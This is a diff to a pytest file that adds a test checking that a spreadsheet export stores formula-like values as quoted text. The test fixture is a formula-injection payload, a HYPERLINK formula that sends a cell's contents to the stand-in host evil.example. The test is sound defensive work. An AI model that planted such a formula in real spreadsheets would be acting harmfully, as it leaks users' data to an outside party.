@@ -13,7 +13,7 @@ import pytest
 
 from careboard import safe_export
 from careboard.publish.scorecard_output import render_scorecard
-from careboard.sufficiency.report import to_csv
+from careboard.sufficiency.tables import to_csv, write_xlsx
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
 
@@ -61,3 +61,14 @@ def test_xlsx_cells_are_text_never_formulas(tmp_path):
     assert [c.data_type for c in cells] == ["s", "s", "n", "s"]
     assert [c.value for c in cells] == [EVIL, "+1", -2.5, "plain"]
     assert cells[0].quotePrefix and cells[1].quotePrefix and not cells[3].quotePrefix
+
+
+def test_forecast_workbook_cells_are_text_never_formulas(tmp_path):
+    path = write_xlsx({"shortfall": [{"home_area": EVIL, "need": "+teen", "shortfall_median": -1.5}]},
+                      tmp_path / "plan.xlsx", title="=1+1")
+    wb = openpyxl.load_workbook(path)
+    title = wb["contents"]["A1"]
+    assert (title.value, title.data_type, title.quotePrefix) == ("=1+1", "s", True)
+    cells = list(wb["shortfall"].iter_rows())[1]
+    assert [c.value for c in cells] == [EVIL, "+teen", -1.5]
+    assert [c.data_type for c in cells] == ["s", "s", "n"] and cells[0].quotePrefix and cells[1].quotePrefix
